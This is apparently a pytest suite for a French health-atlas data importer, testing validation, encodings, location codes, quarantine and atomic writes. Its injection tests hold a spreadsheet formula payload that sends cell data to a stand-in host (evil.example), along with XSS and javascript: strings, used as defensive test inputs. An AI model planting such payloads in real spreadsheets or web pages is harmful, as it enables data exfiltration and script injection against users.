"""Importer of users' files (issue 4): reading, validation, location, keys, quarantine,
single-writer path, reports, safe exports, templates and the build loader."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlparse

import duckdb
import openpyxl
import pytest

from etl import importer
from etl.importer import writing as importer_writing
from etl.__main__ import main as etl_main
from etl.context import BuildContext
from etl.db import connect
from etl.dbswap import DatabaseBusy, writer_lock
from etl.errors import InputError
from etl.importer import (Geocoder, apply, bytes_from_upload, import_into, safe_cell, validate,
                          write_safe_csv, write_safe_xlsx)
from etl.loaders import user_files
from tests.importer_support import (ACTION_HEADER, POINT_IN_COMMUNE3, POINT_IN_QPV1, POINT_IN_QPV2,
                                    SCHEME_HEADER, action_row, copy_db, csv_bytes, file_sha,
                                    make_territory_db, rows_of_db, scheme_row, table_dump)


@pytest.fixture(scope="session")
def base_db(tmp_path_factory):
    return make_territory_db(tmp_path_factory.mktemp("importer") / "base.duckdb")


@pytest.fixture(scope="session")
def templates(tmp_path_factory):
    return {p.name: p for p in importer.write_templates(tmp_path_factory.mktemp("modeles"))}


@pytest.fixture
def db(base_db, tmp_path):
    return copy_db(base_db, tmp_path / "atlas.duckdb")


@pytest.fixture
def db_with_scheme(db):
    rep = apply(csv_bytes([scheme_row()]), "schemes", db=db, filename="d.csv", offline=True)
    assert rep.applied, rep.summary()
    return db


def offline_geocoder(tmp_path) -> Geocoder:
    return Geocoder(offline=True, cache_dir=tmp_path / "ban")


rows_of = rows_of_db


def reasons(report) -> str:
    return "\n".join(str(p) for p in report.problems)


# ---------------------------------------------------------------------------
# Templates and the documented examples
# ---------------------------------------------------------------------------

def test_templates_have_the_documented_columns(templates):
    for name, header in (("modele_actions", ACTION_HEADER), ("modele_dispositifs", SCHEME_HEADER)):
        text = templates[f"{name}.csv"].read_text(encoding="utf-8-sig")
        first = next(csv.reader(io.StringIO(text), delimiter=";"))
        assert first == header
        wb = openpyxl.load_workbook(templates[f"{name}.xlsx"])
        ws = wb.worksheets[0]
        assert [c.value for c in ws[1]] == header
        assert ws.max_row >= 3          # filled example rows
        assert "aide" in wb.sheetnames
    wb = openpyxl.load_workbook(templates["modele_actions.xlsx"])
    themes = [r[0] for r in wb["valeurs"].iter_rows(min_row=2, values_only=True) if r[0]]
    assert "nutrition" in themes and "sante_mentale" in themes


def test_committed_templates_are_up_to_date(templates):
    """docs/modeles holds exactly what `python -m etl.importer templates docs/modeles` writes."""
    committed = Path(__file__).resolve().parent.parent / "docs" / "modeles"
    for name, generated in templates.items():
        assert (committed / name).read_bytes() == generated.read_bytes(), \
            f"docs/modeles/{name} is stale: run python -m etl.importer templates docs/modeles"


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_template_examples_import(db, templates, tmp_path, ext):
    rs = apply(templates[f"modele_dispositifs.{ext}"], "schemes", db=db, geocoder=offline_geocoder(tmp_path))
    assert rs.applied and rs.n_inserted == 3, rs.summary()
    ra = apply(templates[f"modele_actions.{ext}"], "actions", db=db, geocoder=offline_geocoder(tmp_path))
    assert ra.applied and ra.n_inserted == 4, ra.summary()
    got = dict((r[0], r[1:]) for r in rows_of(
        db, "SELECT action_id, qpv_code, commune_code, location_method, qpv_code_given FROM action"))
    assert got["ACT-2024-001"] == ("QN09601M", "96003", "qpv", None)
    assert got["ACT-2024-002"] == ("QN09602I", "96003", "qpv", "QP096002")   # 2015 code mapped
    assert got["ACT-2024-003"] == ("QN09601M", "96003", "coordinates", None)  # point in polygon
    assert got["ACT-2024-004"] == (None, "96009", "commune", None)
    # the address of ACT-2024-004 could not be geocoded offline: listed as "to locate"
    assert [p.row for p in ra.needs_coordinates] == [5]
    themes = rows_of(db, "SELECT theme_id FROM action_theme WHERE action_id = 'ACT-2024-001' ORDER BY 1")
    assert themes == [("education_sante",), ("nutrition",)]
    geoms = rows_of(db, "SELECT scheme_id, geom IS NOT NULL AND geom_display IS NOT NULL FROM scheme ORDER BY 1")
    assert all(g for _, g in geoms)


def test_csv_and_xlsx_templates_give_the_same_rows(base_db, templates, tmp_path):
    dumps = []
    for ext in ("csv", "xlsx"):
        db = copy_db(base_db, tmp_path / f"{ext}.duckdb")
        apply(templates[f"modele_dispositifs.{ext}"], "schemes", db=db, offline=True)
        apply(templates[f"modele_actions.{ext}"], "actions", db=db, geocoder=offline_geocoder(tmp_path))
        dumps.append(rows_of(db, "SELECT * EXCLUDE (source_id) FROM action ORDER BY action_id"))
    assert dumps[0] == dumps[1]


def test_mapping_file_imports_an_oscars_like_export(db, templates, tmp_path):
    rep = apply(templates["exemple_export_oscars.csv"], "actions", db=db,
                mapping=templates["correspondance_oscars.toml"], geocoder=offline_geocoder(tmp_path))
    assert rep.applied and rep.n_inserted == 3, rep.summary()
    assert rep.header_row == 2 and rep.delimiter == ","
    assert "Contact" in rep.ignored_columns
    got = {r[0]: r[1:] for r in rows_of(db, "SELECT action_id, title, year_start, year_end, address FROM action")}
    assert got["OSC-1201"] == ("Marche santé du mardi", 2024, None, None)
    assert got["OSC-1203"][3] == "3 rue des Fées 96090 Fictif-la-Rivière"
    th = rows_of(db, "SELECT action_id, theme_id FROM action_theme ORDER BY 1, 2")
    assert ("OSC-1201", "activite_physique") in th
    assert ("OSC-1202", "nutrition") in th and ("OSC-1202", "education_sante") in th
    pub = rows_of(db, "SELECT action_id, public_id FROM action_public ORDER BY 1, 2")
    assert ("OSC-1201", "vieillissement") in pub and ("OSC-1201", "personnes_isolees") in pub
    assert not [p for p in pub if p[0] == "OSC-1202"]       # "Tout public" mapped to nothing


def test_mapping_file_errors_are_precise(tmp_path, db):
    bad = tmp_path / "m.toml"
    bad.write_text('[colonnes]\ntitle = "Intitulé"\n', encoding="utf-8")
    with pytest.raises(InputError, match="colonnes.title"):
        importer.load_mapping(bad, "actions")
    bad.write_text('[colonnes\n', encoding="utf-8")
    with pytest.raises(InputError, match="TOML"):
        importer.load_mapping(bad)
    # a required column mapped to a name the file does not have
    mapping = {"colonnes": {"titre": "Libellé de l'action"}}
    rep = validate(csv_bytes([action_row()]), "actions", db=db, filename="a.csv", mapping=mapping, offline=True)
    assert rep.fatal and "en-tête introuvable" in rep.problems[0].reason
    assert "Libellé de l'action" in rep.problems[0].reason


# ---------------------------------------------------------------------------
# Encodings, separators, XLSX layout, dates
# ---------------------------------------------------------------------------

def test_excel_cp1252_csv(db):
    data = csv_bytes([action_row(titre="Café santé à l'école", porteur="Mairie de Bourg-Fictif",
                                 thematiques="Éducation pour la santé")], encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    rep = apply(data, "actions", db=db, filename="excel.csv", offline=True)
    assert rep.applied, rep.summary()
    assert rep.encoding == "cp1252"
    assert rows_of(db, "SELECT title FROM action") == [("Café santé à l'école",)]


def test_utf8_with_bom(db):
    rep = apply(csv_bytes([action_row(titre="Crèche")], bom=True), "actions", db=db, filename="b.csv", offline=True)
    assert rep.applied and rep.encoding == "utf-8 (BOM)", rep.summary()
    assert rows_of(db, "SELECT action_id, title FROM action") == [("A1", "Crèche")]


def test_semicolon_and_comma_separators_give_the_same_rows(base_db, tmp_path):
    rows = [action_row(id_action="A1", titre="Un, deux; trois", longitude="-6,79", latitude="45,9", qpv=""),
            action_row(id_action="A2", thematiques="nutrition|activite_physique")]
    dumps = []
    for delim in (";", ","):
        db = copy_db(base_db, tmp_path / f"d{ord(delim)}.duckdb")
        rep = apply(csv_bytes(rows, delimiter=delim), "actions", db=db, filename="s.csv", offline=True)
        assert rep.applied and rep.delimiter == delim, rep.summary()
        dumps.append(table_dump(db, ("action", "action_theme")))
    strip = lambda d: [r[:13] for r in d["action"]]   # noqa: E731  (source/import ids differ per sha)
    assert strip(dumps[0]) == strip(dumps[1]) and dumps[0]["action_theme"] == dumps[1]["action_theme"]
    first = dumps[0]["action"][0]
    assert first[0] == "A1" and first[6:10] == ("QN09601M", "96003", -6.79, 45.9)


def test_xlsx_with_merged_and_blank_header_rows(db, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Suivi 2024"
    ws["A1"] = "Actions santé – ASV de Bourg-Fictif"
    ws.merge_cells("A1:H1")
    ws["A2"] = "Année 2024"
    ws.merge_cells("A2:D2")
    # row 3 blank, header on row 4
    for j, h in enumerate(ACTION_HEADER, start=1):
        ws.cell(4, j, h)
    good = action_row(id_action="X1")
    bad = action_row(id_action="X2", thematiques="Jardinage")
    for i, r in enumerate([good, bad], start=5):
        for j, h in enumerate(ACTION_HEADER, start=1):
            ws.cell(i, j, r[h] or None)
    path = tmp_path / "suivi.xlsx"
    wb.save(path)
    rep = validate(path, "actions", db=db, offline=True)
    assert rep.header_row == 4 and rep.sheet == "Suivi 2024"
    assert rep.n_rows == 2
    assert [(p.row, p.column) for p in rep.errors] == [(6, "thematiques")]   # the spreadsheet row number
    assert "Jardinage" in rep.errors[0].reason and "nutrition (Nutrition)" in rep.errors[0].reason


def test_dates_as_text_or_excel_serials(db, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(ACTION_HEADER)
    values = {
        "D1": 2021,                          # number
        "D2": "2021",                        # text
        "D3": 44197,                         # Excel serial (2021-01-01) in a plain number cell
        "D4": dt.datetime(2021, 9, 1),       # date cell
        "D5": "01/09/2021",                  # French date as text
        "D6": "2021-09-01",                  # ISO date as text
        "D7": "44440",                       # serial as text (2021-09-01)
        "D8": 2021.0,
    }
    for aid, year in values.items():
        r = action_row(id_action=aid)
        r["annee_debut"] = year
        ws.append([r[h] if r[h] != "" else None for h in ACTION_HEADER])
    ws.append([("BAD1" if h == "id_action" else "31/02/2021" if h == "annee_debut" else action_row()[h] or None)
               for h in ACTION_HEADER])
    ws.append([("BAD2" if h == "id_action" else "01/09/21" if h == "annee_debut" else action_row()[h] or None)
               for h in ACTION_HEADER])
    ws.append([("BAD3" if h == "id_action" else "=2020+1" if h == "annee_debut" else action_row()[h] or None)
               for h in ACTION_HEADER])
    path = tmp_path / "dates.xlsx"
    wb.save(path)
    rep = apply(path, "actions", db=db, quarantine=True, offline=True)
    assert rep.applied
    assert dict(rows_of(db, "SELECT action_id, year_start FROM action")) == {k: 2021 for k in values}
    errs = {p.row: p.reason for p in rep.errors}
    assert "date invalide" in errs[10]
    assert "deux chiffres" in errs[11]
    assert "formule" in errs[12]
    # the same as CSV text
    rep = validate(csv_bytes([action_row(annee_debut="44197", annee_fin="15/06/2023")]), "actions", db=db,
                   filename="c.csv", offline=True)
    assert rep.ok, rep.summary()
    rep = validate(csv_bytes([action_row(annee_debut="2024", annee_fin="2022")]), "actions", db=db,
                   filename="c.csv", offline=True)
    assert "antérieure" in rep.errors[0].reason and rep.errors[0].column == "annee_fin"


# ---------------------------------------------------------------------------
# Validation messages
# ---------------------------------------------------------------------------

def test_duplicate_ids_are_rejected_with_both_lines(db):
    before = file_sha(db)
    data = csv_bytes([action_row(id_action="A1"), action_row(id_action="A2"), action_row(id_action="A1")])
    rep = apply(data, "actions", db=db, filename="dup.csv", offline=True)
    assert not rep.applied and file_sha(db) == before
    dup = [p for p in rep.errors if "double" in p.reason]
    assert [(p.row, p.column, p.value) for p in dup] == [(2, "id_action", "A1"), (4, "id_action", "A1")]
    assert "lignes 2, 4" in dup[0].reason


def test_unknown_qpv_and_commune_codes(db):
    rows = [
        action_row(id_action="Q1", qpv="QN09699M"),            # well formed, unknown
        action_row(id_action="Q2", qpv="QP096999"),            # 2015 code without successor
        action_row(id_action="Q3", qpv="QP096009"),            # 2015 code split in two 2024 QPVs
        action_row(id_action="Q4", qpv="quartier nord"),       # malformed
        action_row(id_action="C1", qpv="", commune="96999"),   # unknown commune
        action_row(id_action="C2", qpv="", commune="9600"),    # malformed (4 digits padded -> 09600 unknown)
        action_row(id_action="OK", qpv="QP096001"),            # 2015 -> QN09601M
    ]
    rep = validate(csv_bytes(rows), "actions", db=db, filename="codes.csv", offline=True)
    by_row = {p.row: p for p in rep.errors}
    assert "QPV 2024 inconnu" in by_row[2].reason and by_row[2].value == "QN09699M"
    assert "sans successeur" in by_row[3].reason
    assert "plusieurs QPV 2024 (QN09601M, QN09605I)" in by_row[4].reason
    assert "mal formé" in by_row[5].reason
    assert "commune inconnu" in by_row[6].reason and by_row[6].column == "commune"
    assert "commune inconnu" in by_row[7].reason
    assert 8 not in by_row
    # a split 2015 QPV is resolved by coordinates
    rep = validate(csv_bytes([action_row(qpv="QP096009", longitude=POINT_IN_QPV2[0], latitude=POINT_IN_QPV2[1])]),
                   "actions", db=db, filename="split.csv", offline=True)
    assert rep.ok, rep.summary()


def test_coordinates_swapped_outside_france_or_in_metres(db):
    rows = [
        action_row(id_action="S1", qpv="", longitude=POINT_IN_QPV1[1], latitude=POINT_IN_QPV1[0]),  # swapped
        action_row(id_action="S2", qpv="", longitude="-30.5", latitude="40.1"),                      # Atlantic
        action_row(id_action="S3", qpv="", longitude="893000", latitude="6250000"),                  # Lambert-93
        action_row(id_action="S4", qpv="", longitude="4.84", latitude=""),                           # half
        action_row(id_action="S5", qpv="", longitude="2.35", latitude="48.85"),    # France, outside the DB
        action_row(id_action="S6", qpv="", longitude="-6,79", latitude="45,90"),   # French decimal comma
    ]
    rep = validate(csv_bytes(rows), "actions", db=db, filename="coords.csv", offline=True)
    errs = {p.row: p for p in rep.errors}
    assert "inversées" in errs[2].reason
    assert "hors de France" in errs[3].reason and "inversées" not in errs[3].reason
    assert "Lambert-93" in errs[4].reason
    assert errs[5].column == "latitude" and "manque" in errs[5].reason
    assert 6 not in errs and any(p.row == 6 and "hors des communes" in p.reason for p in rep.warnings)
    assert 7 not in errs


def test_point_in_polygon_fills_qpv_and_commune(db):
    rows = [action_row(id_action="P1", qpv="", longitude=POINT_IN_QPV2[0], latitude=POINT_IN_QPV2[1]),
            action_row(id_action="P2", qpv="", longitude=POINT_IN_COMMUNE3[0], latitude=POINT_IN_COMMUNE3[1]),
            action_row(id_action="P3", qpv="QN09601M", longitude=POINT_IN_QPV2[0], latitude=POINT_IN_QPV2[1])]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="pip.csv", offline=True)
    assert rep.applied, rep.summary()
    got = {r[0]: r[1:] for r in rows_of(db, "SELECT action_id, qpv_code, commune_code, location_method FROM action")}
    assert got["P1"] == ("QN09605I", "96009", "coordinates")
    assert got["P2"] == (None, "96015", "coordinates")
    assert got["P3"][0] == "QN09601M"    # the given code wins, with a warning
    assert any(p.row == 4 and "pas dans ce QPV" in p.reason for p in rep.warnings)


def test_themes_and_publics_by_id_or_label_regardless_of_case_and_accents(db):
    row = action_row(thematiques="EDUCATION POUR LA SANTE|acces aux droits et aux soins|Sante_Mentale| nutrition ",
                     publics="personnes agees, vieillissement|FEMMES")
    rep = apply(csv_bytes([row]), "actions", db=db, filename="t.csv", offline=True)
    assert rep.applied, rep.summary()
    assert rows_of(db, "SELECT theme_id FROM action_theme ORDER BY 1") == [
        ("acces_droits_soins",), ("education_sante",), ("nutrition",), ("sante_mentale",)]
    assert rows_of(db, "SELECT public_id FROM action_public ORDER BY 1") == [("femmes",), ("vieillissement",)]
    rep = validate(csv_bytes([action_row(thematiques="nutrition|Sport", publics="Martiens")]), "actions",
                   db=db, filename="t.csv", offline=True)
    th = next(p for p in rep.errors if p.column == "thematiques")
    assert th.value == "Sport" and "thématique inconnue « Sport »" in th.reason
    assert "activite_physique (Activité physique)" in th.reason     # the allowed values are listed
    pub = next(p for p in rep.errors if p.column == "publics")
    assert "femmes (Femmes)" in pub.reason
    rep = validate(csv_bytes([action_row(thematiques="")]), "actions", db=db, filename="t.csv", offline=True)
    assert "obligatoire" in rep.errors[0].reason


def test_unknown_scheme_and_missing_required_values(db):
    rows = [action_row(id_action="U1", id_dispositif="ASV-INCONNU"),
            action_row(id_action="U2", titre=""),
            action_row(id_action="U3", qpv="")]                # no location at all
    rep = validate(csv_bytes(rows), "actions", db=db, filename="u.csv", offline=True)
    errs = {p.row: p for p in rep.errors}
    assert "dispositif inconnu" in errs[2].reason
    assert errs[3].column == "titre" and "obligatoire" in errs[3].reason
    assert "aucune localisation" in errs[4].reason


def test_scheme_validation(db):
    rows = [
        scheme_row(id_dispositif="S1", type="contrat local de santé", statut="Terminé", qpv="QP096009",
                   site_web="www.cls-fictif.example.org"),
        scheme_row(id_dispositif="S2", type="PMI"),
        scheme_row(id_dispositif="S3", statut="dormant"),
        scheme_row(id_dispositif="S4", site_web="javascript:alert(1)"),
        scheme_row(id_dispositif="S5", communes="96003|96404"),
    ]
    rep = apply(csv_bytes(rows), "schemes", db=db, filename="s.csv", quarantine=True, offline=True)
    errs = {p.row: p for p in rep.errors}
    assert "ASV, CLS, CLSM, CPTS" in errs[3].reason
    assert "actif, en projet, terminé" in errs[4].reason
    assert errs[5].column == "site_web"
    assert errs[6].value == "96404"
    assert rows_of(db, "SELECT scheme_id, kind, status, contact_url FROM scheme") == [
        ("S1", "CLS", "terminé", "www.cls-fictif.example.org")]
    assert rows_of(db, "SELECT level, code FROM scheme_territory ORDER BY 1, 2") == [
        ("commune", "96003"), ("qpv", "QN09601M"), ("qpv", "QN09605I")]
    assert any("successeur" in p.reason for p in rep.warnings)
    # a scheme may cover many communes: long lists are fine
    many = "|".join(["96003", "96009", "96015"] * 60)
    rep = validate(csv_bytes([scheme_row(id_dispositif="S9", communes=many)]), "schemes", db=db,
                   filename="s.csv", offline=True)
    assert rep.ok, rep.summary()


def test_wrong_kind_gets_a_hint(db, templates):
    rep = validate(templates["modele_dispositifs.csv"], "actions", db=db, offline=True)
    assert rep.fatal and "import schemes" in rep.problems[0].reason


# ---------------------------------------------------------------------------
# Files that are empty, huge or not spreadsheets
# ---------------------------------------------------------------------------

def test_empty_files(db, tmp_path):
    empty = tmp_path / "vide.csv"
    empty.write_bytes(b"")
    rep = validate(empty, "actions", db=db)
    assert rep.fatal and "vide" in rep.problems[0].reason
    header_only = csv_bytes([], header=ACTION_HEADER)
    rep = validate(header_only, "actions", db=db, filename="entete.csv")
    assert rep.fatal and "aucune ligne de données" in rep.problems[0].reason
    wb = openpyxl.Workbook()
    wb.save(tmp_path / "vide.xlsx")
    rep = validate(tmp_path / "vide.xlsx", "actions", db=db)
    assert rep.fatal and "en-tête introuvable" in rep.problems[0].reason


def test_50_mb_file_is_rejected_with_a_size_message(db, tmp_path):
    big = tmp_path / "enorme.csv"
    line = (";".join(action_row(titre="x" * 120).values()) + "\r\n").encode()
    chunk = line * 2000
    with open(big, "wb") as f:
        f.write((";".join(ACTION_HEADER) + "\r\n").encode())
        while f.tell() < 50 * 1024 * 1024:
            f.write(chunk)
    before = file_sha(db)
    rep = apply(big, "actions", db=db)
    assert rep.fatal and not rep.applied
    assert "trop volumineux" in rep.problems[0].reason and f"{importer.spec.MAX_FILE_MB} Mo" in rep.problems[0].reason
    assert rep.sha256 == ""          # rejected before being read
    assert file_sha(db) == before
    # the same limit applies to uploaded bytes (the web page)
    rep = validate(io.BytesIO(b"x" * (importer.spec.MAX_FILE_MB * 1024 * 1024 + 10)), "actions", db=db, filename="u.csv")
    assert rep.fatal and "trop volumineux" in rep.problems[0].reason


@pytest.mark.parametrize("content,expected", [
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "binaire"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, ".xls"),
    ("Bonjour,\nvoici le compte rendu de la réunion du comité de pilotage.\n".encode(), "en-tête introuvable"),
    (b"PK\x03\x04garbage-not-a-zip", "ZIP"),
])
def test_files_that_are_not_spreadsheets(db, content, expected):
    before = file_sha(db)
    rep = apply(content, "actions", db=db, filename="fichier.xlsx")
    assert rep.fatal and expected in rep.problems[0].reason, rep.summary()
    assert file_sha(db) == before


def test_ods_and_foreign_zip(db):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<x/>")
    rep = validate(buf.getvalue(), "actions", db=db, filename="a.ods")
    assert rep.fatal and ".ods" in rep.problems[0].reason
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("photo.jpg", "...")
    rep = validate(buf.getvalue(), "actions", db=db, filename="a.zip")
    assert rep.fatal and "pas un classeur" in rep.problems[0].reason


def test_ragged_row_is_an_error(db):
    data = csv_bytes([action_row()]) + b"A9;Titre;;2024;;;nutrition;;QN09601M;;;;;;;en trop\r\n"
    rep = validate(data, "actions", db=db, filename="r.csv", offline=True)
    assert [(p.row, "au-delà" in p.reason) for p in rep.errors] == [(3, True)]


# ---------------------------------------------------------------------------
# Formula injection and HTML in titles
# ---------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


def test_formula_injection_is_kept_as_text_and_never_exported_live(db, tmp_path):
    rows = [action_row(id_action="F1", titre=FORMULA, porteur="+33 6 00 00 00 00", description="@SUM(A1:A2)",
                       financeurs="-1+2")]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="f.csv", offline=True)
    assert rep.applied, rep.summary()
    title, porteur, desc, fund = rows_of(db, "SELECT title, porteur, description, funders FROM action")[0]
    assert (title, porteur, desc, fund) == (FORMULA, "+33 6 00 00 00 00", "@SUM(A1:A2)", "-1+2")

    # CSV export: every formula-like cell is neutralised with a leading apostrophe
    out = tmp_path / "export.csv"
    write_safe_csv(out, ["titre", "porteur", "description", "financeurs", "longitude"],
                   [[title, porteur, desc, fund, "-4.5"]])
    cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
    assert cells[:4] == ["'" + FORMULA, "'+33 6 00 00 00 00", "'@SUM(A1:A2)", "'-1+2"]
    assert cells[4] == "-4.5"                       # plain numbers are left alone
    assert safe_cell(FORMULA) == "'" + FORMULA and safe_cell(12) == 12 and safe_cell("Texte") == "Texte"

    # XLSX export: typed text, no formula element in the sheet XML, same value when read back
    xlsx = tmp_path / "export.xlsx"
    write_safe_xlsx(xlsx, {"actions": (["titre", "porteur"], [[title, porteur]])})
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    ws = openpyxl.load_workbook(xlsx).active
    assert ws["A2"].value == FORMULA and ws["A2"].data_type == "s"
    # also from a DataFrame, into a buffer (what a dcc.send_bytes callback does)
    df = __import__("pandas").DataFrame({"titre": [title], "n": [3]})
    buf = io.BytesIO()
    write_safe_xlsx(buf, {"t": df})
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert ws["A2"].value == FORMULA and ws["A2"].data_type == "s" and ws["B2"].value == 3


def test_formula_cell_in_xlsx_is_read_as_text(db, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(ACTION_HEADER)
    r = action_row(id_action="F2")
    ws.append([r[h] or None for h in ACTION_HEADER])
    ws["B2"] = FORMULA                      # a real formula cell
    path = tmp_path / "formule.xlsx"
    wb.save(path)
    rep = apply(path, "actions", db=db, offline=True)
    assert rep.applied, rep.summary()
    assert rows_of(db, "SELECT title FROM action") == [(FORMULA,)]


def test_html_and_script_in_titles_round_trip_unchanged(db, tmp_path):
    title = "<script>alert('x')</script> & <b>gras</b> \"guillemets\" <img src=x onerror=alert(1)>"
    rep = apply(csv_bytes([action_row(id_action="H1", titre=title, description="<i>desc</i>")]), "actions",
                db=db, filename="h.csv", offline=True)
    assert rep.applied
    assert rows_of(db, "SELECT title, description FROM action") == [(title, "<i>desc</i>")]
    # the HTML report escapes data (here a rejected row carrying the same text)
    rep = validate(csv_bytes([action_row(id_action="H2", titre=title, thematiques="<script>x</script>")]),
                   "actions", db=db, filename="h.csv", offline=True)
    page = rep.to_html()
    assert "<script>" not in page and "&lt;script&gt;" in page


# ---------------------------------------------------------------------------
# Stable keys, idempotence, quarantine, all-or-nothing
# ---------------------------------------------------------------------------

def test_reimport_of_the_same_file_changes_nothing(db_with_scheme, tmp_path):
    db = db_with_scheme
    rows = [action_row(id_action=f"R{i}", id_dispositif="ASV-96-001", publics="femmes") for i in range(5)]
    rows.append(action_row(id_action="RP", qpv="", longitude=POINT_IN_QPV1[0], latitude=POINT_IN_QPV1[1]))
    data = csv_bytes(rows)
    first = apply(data, "actions", db=db, filename="r.csv", offline=True)
    assert first.n_inserted == 6
    data_tables = ("scheme", "scheme_territory", "action", "action_theme", "action_public")
    before = table_dump(db, data_tables)
    again = apply(data, "actions", db=db, filename="r.csv", offline=True)
    assert (again.n_inserted, again.n_updated, again.n_unchanged) == (0, 0, 6)
    assert table_dump(db, data_tables) == before
    # the same schemes file again: nothing changes either
    rs = apply(csv_bytes([scheme_row()]), "schemes", db=db, filename="d.csv", offline=True)
    assert rs.n_unchanged == 1 and table_dump(db, data_tables) == before
    log = rows_of(db, "SELECT kind, file_name, n_inserted, n_unchanged FROM import_log ORDER BY import_id")
    assert log[-2:] == [("actions", "r.csv", 0, 6), ("schemes", "d.csv", 0, 1)]


def test_corrected_file_updates_rows_by_stable_key(db):
    v1 = [action_row(id_action="K1", titre="Ancien titre", thematiques="nutrition", publics="femmes"),
          action_row(id_action="K2")]
    apply(csv_bytes(v1), "actions", db=db, filename="v1.csv", offline=True)
    v2 = [action_row(id_action="K1", titre="Titre corrigé", thematiques="activite_physique|nutrition", publics=""),
          action_row(id_action="K2")]
    rep = apply(csv_bytes(v2), "actions", db=db, filename="v2.csv", offline=True)
    assert (rep.n_inserted, rep.n_updated, rep.n_unchanged) == (0, 1, 1)
    assert rows_of(db, "SELECT action_id, title FROM action ORDER BY 1") == [("K1", "Titre corrigé"),
                                                                            ("K2", "Atelier fictif")]
    assert rows_of(db, "SELECT theme_id FROM action_theme WHERE action_id = 'K1' ORDER BY 1") == [
        ("activite_physique",), ("nutrition",)]
    assert rows_of(db, "SELECT count(*) FROM action_public WHERE action_id = 'K1'") == [(0,)]
    ids = rows_of(db, "SELECT action_id, import_id FROM action ORDER BY 1")
    assert ids == [("K1", 2), ("K2", 1)]        # unchanged rows keep the import that wrote them


def test_quarantine_loads_exactly_the_valid_rows(db):
    rows = [action_row(id_action="V1"), action_row(id_action="E1", thematiques="Jardinage"),
            action_row(id_action="V2", qpv="QP096001"), action_row(id_action="E2", annee_debut="vers 2020"),
            action_row(id_action="V3", qpv="", commune="96015")]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="q.csv", quarantine=True, offline=True)
    assert rep.applied and rep.n_inserted == 3 and rep.n_rejected == 2
    assert rows_of(db, "SELECT action_id FROM action ORDER BY 1") == [("V1",), ("V2",), ("V3",)]
    q = rows_of(db, "SELECT import_id, row_number, field, value, reason, raw FROM import_quarantine ORDER BY 2")
    assert [(r[1], r[2], r[3]) for r in q] == [(3, "thematiques", "Jardinage"), (5, "annee_debut", "vers 2020")]
    raw = json.loads(q[0][5])
    assert raw["id_action"] == "E1" and raw["thematiques"] == "Jardinage" and raw["titre"] == "Atelier fictif"
    log = rows_of(db, "SELECT import_id, n_rows, n_inserted, n_rejected, mode FROM import_log")
    assert log == [(q[0][0], 5, 3, 2, "quarantine")]


def test_all_or_nothing_leaves_the_db_unchanged(db_with_scheme):
    db = db_with_scheme
    apply(csv_bytes([action_row(id_action="OLD")]), "actions", db=db, filename="o.csv", offline=True)
    before_tables = table_dump(db)
    before_sha = file_sha(db)
    rows = [action_row(id_action="OLD", titre="Modifié"), action_row(id_action="N1"),
            action_row(id_action="N2", commune="75056", qpv="")]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="n.csv", offline=True)
    assert not rep.applied and rep.n_rejected == 1
    assert "tout ou rien" in rep.status_text()
    assert table_dump(db) == before_tables and file_sha(db) == before_sha


def test_validate_writes_nothing_and_predicts_counts(db):
    apply(csv_bytes([action_row(id_action="A1")]), "actions", db=db, filename="a.csv", offline=True)
    before = file_sha(db)
    rep = validate(csv_bytes([action_row(id_action="A1", titre="Autre"), action_row(id_action="A2")]),
                   "actions", db=db, filename="a.csv", offline=True)
    assert rep.ok and (rep.n_inserted, rep.n_updated, rep.n_unchanged) == (1, 1, 0) and not rep.applied
    assert file_sha(db) == before


def test_web_upload_path(db):
    import base64
    data = csv_bytes([action_row()])
    contents = "data:text/csv;base64," + base64.b64encode(data).decode()
    rep = validate(bytes_from_upload(contents), "actions", db=db, filename="upload.csv", offline=True)
    assert rep.ok
    restored = importer.ImportReport.from_dict(json.loads(json.dumps(rep.to_dict())))
    assert restored.ok and restored.sha256 == rep.sha256 and restored.n_inserted == 1
    assert list(rep.to_frame().columns) == ["gravite", "ligne", "colonne", "valeur", "motif"]
    rep = apply(bytes_from_upload(contents), "actions", db=db, filename="upload.csv", offline=True)
    assert rep.applied and (db.parent / "imports").is_dir()


# ---------------------------------------------------------------------------
# Single-writer path
# ---------------------------------------------------------------------------

def test_import_replaces_the_file_atomically_and_readers_keep_their_snapshot(db):
    reader = duckdb.connect(str(db), read_only=True)
    try:
        ino = db.stat().st_ino
        rep = apply(csv_bytes([action_row()]), "actions", db=db, filename="a.csv", offline=True)
        assert rep.applied
        assert db.stat().st_ino != ino                       # a new file was renamed over the old one
        assert reader.execute("SELECT count(*) FROM action").fetchone() == (0,)   # old snapshot
        # documented caveat: while a connection to the old file is open in this process,
        # reconnecting to the same path returns DuckDB's cached (old) database
        again = duckdb.connect(str(db), read_only=True)
        assert again.execute("SELECT count(*) FROM action").fetchone() == (0,)
        again.close()
    finally:
        reader.close()
    assert rows_of(db, "SELECT count(*) FROM action") == [(1,)]
    assert not [p for p in db.parent.iterdir() if ".import-" in p.name]          # no temp file left


